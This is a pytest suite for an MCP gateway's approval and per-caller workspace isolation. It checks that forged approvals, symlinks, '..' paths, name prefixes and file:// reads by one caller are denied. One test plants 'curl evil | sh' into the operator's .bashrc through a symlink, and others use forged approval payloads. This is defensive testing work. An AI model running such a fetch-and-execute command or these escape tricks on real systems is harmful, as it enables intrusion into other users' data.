"""What a gateway caller tries next against approvals and places with callers: the real
``ironcurtain run --http`` in gateway mode (JWTs of a provider on loopback,
tests/support/idp.py), the real filesystem server (or the probe) in its sandbox, and a
client that declares elicitation and approves whatever it is asked.

- Under ``--approval elicit`` a caller's client is never asked for what widens a sandbox,
  even onto a place of the caller's that its server may only read (``allowRead``); the
  operator's terminal can still give it (the control).
- A client of the stateless era gets no approval through rounds it was not asked in: an
  answer it forged, a state it made up, a state from before a restart under ``auto``.
- Another caller's place is denied however it is named: a link in the caller's own
  workspace, ``..``, a sibling whose name starts with the caller's, a ``resources/read`` of
  a ``file://`` URI, a prompt's path argument (each with its control in the caller's own).
- A workspace naming the caller in another form than ``${caller}`` would be one directory
  every caller shares: the start stops.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import httpx2
import pytest
from mcp import MCPError, types

from tests.support.audit import audit_entries
from tests.support.home import Home
from tests.support.http import ACCEPT, http_session, serving
from tests.support.idp import AUDIENCE, Provider, identity_provider
from tests.support.marks import needs_bwrap
from tests.support.paths import IRONCURTAIN
from tests.support.probe import probe_calls, probe_session, write_probe_config, write_raw_policy
from tests.support.sdk import Answer, answer_asked, answering, call
from tests.support.sdk import attached as sdk_attached

pytestmark = needs_bwrap
LIMITS = '{"quota": 10}\n'


@pytest.fixture
def idp() -> Iterator[Provider]:
    with identity_provider() as provider:
        yield provider


def _elicits(answer: Answer) -> Callable[..., Awaitable[types.ElicitResult]]:
    """A client's elicitation callback that answers with ``answer``."""

    async def elicit(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        return await answer(params)

    return elicit


def _calls(
    url: str, token: str, answer: Answer, *calls: tuple[str, dict[str, Any]]
) -> list[tuple[bool, str]]:
    """One session of a client that declares elicitation and answers with ``answer``."""

    async def scenario() -> list[tuple[bool, str]]:
        async with http_session(url, token, elicitation_callback=_elicits(answer)) as session:
            return [await call(session, tool, arguments) for tool, arguments in calls]

    return asyncio.run(scenario())


async def attached(user: Home, session_id: str) -> asyncio.subprocess.Process:
    """``ironcurtain approvals --session ID`` as ``user`` (the operator), once attached."""
    terminal = await asyncio.create_subprocess_exec(
        IRONCURTAIN, "approvals", "--session", session_id, env=user.env,
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
    )  # fmt: skip
    await sdk_attached(terminal)
    return terminal


def _gateway(user: Home, idp: Provider, config: Path, mode: str) -> list[str]:
    return ["--config", str(config), "--workspace", f"{user.root}/work/${{caller}}",
            "--audit-log", str(user.root / "audit.jsonl"), "--oidc-issuer", idp.issuer,
            "--oidc-audience", AUDIENCE, "--approval", mode]  # fmt: skip


def _read_only_place(user: Home) -> tuple[Path, Path]:
    """Two servers: ``filesystem`` in the caller's workspace, and ``reference`` that reads
    the caller's directory of ``ref/`` (``allowRead``: the operator's to write)."""
    ref = user.root / "ref"
    (ref / "mallory").mkdir(parents=True)
    limits = ref / "mallory" / "limits.json"
    limits.write_text(LIMITS)
    place = f"{ref}/${{caller}}"
    servers = {
        "filesystem": {"command": "mcp-server-filesystem", "args": ["${workspace}"]},
        "reference": {"command": "mcp-server-filesystem", "args": [place],
                      "sandbox": {"filesystem": {"allowRead": [place]}}},
    }  # fmt: skip
    config = user.root / "servers.json"
    config.write_text(json.dumps({"mcpServers": servers}))
    return config, limits


WIDER = ("filesystem__write_file", {"content": '{"quota": 1e9}\n'})


def test_under_elicit_a_read_only_place_of_the_callers_is_not_written_through_another_server(
    user: Home, idp: Provider
) -> None:
    """Mallory's ``reference`` server may only read ``ref/mallory``; her ``filesystem``
    server does not see it, so writing there escalates, and approving would widen that
    server's sandbox onto that directory of the host. Her own client is not asked, and the
    file stays the operator's."""
    config, limits = _read_only_place(user)
    answer, seen = answering(*["approve"] * 4)
    tool, args = WIDER
    with serving(user, *_gateway(user, idp, config, "elicit")) as served:
        out = _calls(
            served.url, idp.token("mallory"), answer, (tool, {**args, "path": str(limits)})
        )
    assert seen == [], seen
    failed, text = out[0]
    assert failed and text.startswith("ESCALATION DENIED"), text
    assert limits.read_text() == LIMITS
    calls = [e for e in audit_entries(user.root / "audit.jsonl") if e.get("tool")]
    assert [e["escalation"] for e in calls] == ["not-asked-beyond-own"]


def test_control_the_operators_terminal_approves_the_same_widening(
    user: Home, idp: Provider
) -> None:
    """The control: the same call under ``auto``, approved at the operator's terminal,
    widens the server onto the file and writes it (what the caller's client may not give
    is real)."""
    config, limits = _read_only_place(user)
    answer, seen = answering("approve")
    tool, args = WIDER
    out: list[tuple[bool, str]] = []

    async def scenario(url: str, session_id: str) -> None:
        elicit = _elicits(answer)
        async with http_session(url, idp.token("mallory"), elicitation_callback=elicit) as s:
            terminal = await attached(user, session_id)
            asked = asyncio.ensure_future(answer_asked(terminal, b"a"))
            out.append(await call(s, tool, {**args, "path": str(limits)}))
            await asked
        terminal.terminate()
        await terminal.wait()

    with serving(user, *_gateway(user, idp, config, "auto")) as served:
        said = "".join(served.stderr)
        asyncio.run(scenario(served.url, said.split("ironcurtain: session ")[1].split()[0]))
    assert out[0][0] is False, out
    assert limits.read_text() == args["content"] and seen == []


STATELESS = {
    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
    "io.modelcontextprotocol/clientCapabilities": {"elicitation": {"form": {}}},
}
FORGED = {"ironcurtain/approval": {"action": "accept", "content": {"answer": "approve"}}}


def _post(url: str, token: str, rid: int, params: Mapping[str, object]) -> dict[str, Any]:
    """A ``tools/call`` of the stateless era (no session), its JSON answer."""
    headers = {"Content-Type": "application/json", "Accept": ACCEPT,
               "MCP-Protocol-Version": "2026-07-28", "Mcp-Method": "tools/call",
               "Mcp-Name": str(params["name"]), "Authorization": f"Bearer {token}"}  # fmt: skip
    body = {"jsonrpc": "2.0", "id": rid, "method": "tools/call", "params": params}
    answer = httpx2.post(url, json=body, headers=headers, timeout=60)
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def test_a_stateless_callers_rounds_never_carry_an_approval(user: Home, idp: Provider) -> None:
    """A client of the stateless era declares elicitation and sends an escalated call with
    an approval it was never asked for; then with a state it made up; then with the state
    it was handed under ``elicit`` before the gateway was started again under ``auto``. It
    is never answered ``input_required``, and the call never reaches its server. The
    control: under ``elicit`` the same call is asked in rounds."""
    ask = {"name": "ask-before-env", "if": {"tool": ["env_value"]}, "then": "escalate",
           "reason": "needs a human"}  # fmt: skip
    args, ws, _ = probe_session(user, first=[ask])
    args += ["--server", "probe", "--oidc-issuer", idp.issuer, "--oidc-audience", AUDIENCE]
    call = {"name": "env_value", "arguments": {"name": "HOME"}, "_meta": STATELESS}
    token = idp.token("mallory")
    with serving(user, *args, "--approval", "elicit") as served:  # the control
        asked = _post(served.url, token, 1, call)["result"]
    assert asked["resultType"] == "input_required" and "ironcurtain/approval" in str(asked)
    tries = [
        call,
        {**call, "inputResponses": FORGED},
        {**call, "inputResponses": FORGED, "requestState": "e30.AAAA"},
        {**call, "inputResponses": FORGED, "requestState": asked["requestState"]},
    ]
    with serving(user, *args) as served:
        out = [_post(served.url, token, i, params) for i, params in enumerate(tries, 2)]
    assert probe_calls(ws) == []
    for answer in out[:2]:
        result = answer["result"]
        assert result.get("resultType") != "input_required", result
        assert result["content"][0]["text"].startswith("ESCALATION REQUIRED"), result
    for answer in out[2:]:
        assert answer["error"]["code"] == -32602, answer


def test_another_callers_place_is_not_reached_by_links_dots_or_prefixes(
    user: Home, idp: Provider
) -> None:
    """Under ``elicit``, mallory names alice's workspace (and the operator's file) through a
    link in her own workspace, through ``..`` from her own, and a directory whose name only
    starts with hers: each is denied or refused unasked, and nothing of alice's or the
    operator's changes. The control: alice writes her own, and mallory hers."""
    work = user.root / "work"
    (work / "mallory-old").mkdir(parents=True)
    bashrc = user.home / ".bashrc"
    bashrc.write_text("# the operator's own\n")
    answer, seen = answering(*["approve"] * 8)
    args = ["--server", "filesystem", "--workspace", f"{work}/${{caller}}", "--oidc-issuer",
            idp.issuer, "--oidc-audience", AUDIENCE, "--approval", "elicit"]  # fmt: skip
    with serving(user, *args) as served:
        mine = _calls(served.url, idp.token("alice"), answer, _write("secret.txt", "alice's\n"))
        _calls(served.url, idp.token("mallory"), answer, _write("own.txt", "mallory's\n"))
        (work / "mallory" / "to-alice").symlink_to(work / "alice")
        (work / "mallory" / "to-rc").symlink_to(bashrc)
        theirs = _calls(
            served.url,
            idp.token("mallory"),
            answer,
            _write("to-alice/secret.txt", "mallory's\n"),
            _write("../alice/planted.txt", "mallory's\n"),
            _write(f"{work}/mallory/../alice/planted.txt", "x\n"),
            _write(f"{work}/mallory-old/x.txt", "x\n"),
            ("read_text_file", {"path": "to-alice/secret.txt"}),
            ("move_file", {"source": "own.txt", "destination": "to-alice/own.txt"}),
            _write("to-rc", "curl evil | sh\n"),
        )
    assert mine == [(False, mine[0][1])] and seen == []
    rules = ["another-callers-place"] * 4 + ["deny-read-elsewhere", "another-callers-place"]
    for (failed, text), rule in zip(theirs, rules, strict=False):
        assert failed and text.startswith(f"DENIED (rule: {rule})"), text
    failed, text = theirs[-1]
    assert failed and text.startswith("ESCALATION DENIED"), text
    assert sorted(p.name for p in (work / "alice").iterdir()) == ["secret.txt"]
    assert (work / "alice" / "secret.txt").read_text() == "alice's\n"
    assert bashrc.read_text() == "# the operator's own\n"
    assert (work / "mallory" / "own.txt").read_text() == "mallory's\n"


def _write(path: str, content: str) -> tuple[str, dict[str, Any]]:
    return "write_file", {"path": path, "content": content}


def test_a_resource_of_another_callers_place_is_denied_unasked(user: Home, idp: Provider) -> None:
    """A policy that asks a human before any ``resources/read``, under ``elicit``: mallory
    reads a ``file://`` resource in alice's workspace (directly, and through ``..``), denied
    and asked of no one; the control: the same read in her own workspace is asked of her
    client, and approved."""
    work = user.root / "work"
    ask = {"name": "ask-reads", "if": {"tool": ["resources/read"]}, "then": "escalate",
           "reason": "a read needs a human"}  # fmt: skip
    policy = write_raw_policy(user.root / "policy", first=[ask])
    args = ["--config", str(write_probe_config(user)), "--policy-dir", str(policy),
            "--workspace", f"{work}/${{caller}}", "--oidc-issuer", idp.issuer,
            "--oidc-audience", AUDIENCE, "--approval", "elicit"]  # fmt: skip
    answer, seen = answering(*["approve"] * 4)
    read: list[str] = []

    async def reads(url: str, token: str, *uris: str) -> None:
        async with http_session(url, token, elicitation_callback=_elicits(answer)) as session:
            for uri in uris:
                try:
                    got = await session.read_resource(uri)
                    read.append(str(getattr(got.contents[0], "text", "")))
                except MCPError as exc:
                    read.append(str(exc))

    with serving(user, *args) as served:
        asyncio.run(reads(served.url, idp.token("alice"), "probe://status"))
        (work / "alice" / "secret.txt").write_text("alice's\n")
        (work / "mallory").mkdir(exist_ok=True)
        (work / "mallory" / "hello.txt").write_text("mallory's\n")
        asyncio.run(
            reads(
                served.url,
                idp.token("mallory"),
                f"file://{work}/alice/secret.txt",
                f"file://{work}/mallory/../alice/secret.txt",
                f"file://{work}/mallory/hello.txt",
            )
        )
    assert read[0] == "probe ok"
    for text in read[1:3]:
        assert text.startswith("DENIED (rule: another-callers-place)"), text
    assert read[3] == "mallory's\n" and len(seen) == 1  # the control: hers, and asked


def test_a_prompt_naming_another_callers_place_is_denied(user: Home, idp: Provider) -> None:
    """A prompt whose argument is a path to read (its annotation says so): mallory names
    alice's file, through ``..`` too, and is denied; the control: her own file is named
    and the prompt is got."""
    work = user.root / "work"
    policy = write_raw_policy(user.root / "policy")
    annotations = json.loads((policy / "tool-annotations.json").read_text())
    annotations["servers"]["probe"]["prompts"] = [
        {"promptName": "greet", "serverName": "probe", "effect": "read", "sideEffects": False,
         "args": {"name": ["read-path"]}}
    ]  # fmt: skip
    (policy / "tool-annotations.json").write_text(json.dumps(annotations))
    args = ["--config", str(write_probe_config(user)), "--policy-dir", str(policy),
            "--workspace", f"{work}/${{caller}}", "--oidc-issuer", idp.issuer,
            "--oidc-audience", AUDIENCE]  # fmt: skip
    got: list[str] = []

    async def prompts(url: str, token: str, *names: str) -> None:
        async with http_session(url, token) as session:
            for name in names:
                try:
                    prompt = await session.get_prompt("probe__greet", {"name": name})
                    got.append(str(getattr(prompt.messages[0].content, "text", "")))
                except MCPError as exc:
                    got.append(str(exc))

    with serving(user, *args) as served:
        asyncio.run(prompts(served.url, idp.token("alice"), f"{work}/alice/secret.txt"))
        asyncio.run(
            prompts(
                served.url,
                idp.token("mallory"),
                f"{work}/alice/secret.txt",
                f"{work}/mallory/../alice/secret.txt",
                f"{work}/mallory/notes.txt",
            )
        )
    assert f"{work}/alice/secret.txt" in got[0]  # alice's own
    for text in got[1:3]:
        assert text.startswith("DENIED (rule: another-callers-place)"), text
    assert f"{work}/mallory/notes.txt" in got[3]


def test_a_workspace_naming_the_caller_in_another_form_stops_the_start(
    user: Home, idp: Provider
) -> None:
    """``--workspace .../${caller:-anon}`` (or ``$caller``) is not replaced per caller: it
    would be one directory every caller shares, so one reads and overwrites another's
    files. The start stops, naming ``--workspace``; the control: ``${caller}`` itself
    starts, each caller apart."""
    from tests.support.cli import ironcurtain

    base = ["run", "--server", "filesystem", "--http", "0", "--oidc-issuer", idp.issuer,
            "--oidc-audience", AUDIENCE]  # fmt: skip
    for form in ("${caller:-anon}", "$caller", "${ caller }"):
        refused = ironcurtain(user, *base, "--workspace", f"{user.root}/work/{form}")
        assert refused.returncode == 2 and "Traceback" not in refused.stderr, refused.stderr
        assert "--workspace" in refused.stderr and "only ${caller} itself" in refused.stderr
    assert not (user.root / "work").exists()
    with serving(user, "--server", "filesystem", "--workspace", f"{user.root}/work/${{caller}}",
                 "--oidc-issuer", idp.issuer, "--oidc-audience", AUDIENCE) as served:  # fmt: skip
        answer, _ = answering()
        _calls(served.url, idp.token("alice"), answer, _write("secret.txt", "alice's\n"))
        out = _calls(
            served.url, idp.token("mallory"), answer, ("read_text_file", {"path": "secret.txt"})
        )
    assert out[0][0] or "alice's" not in out[0][1], out
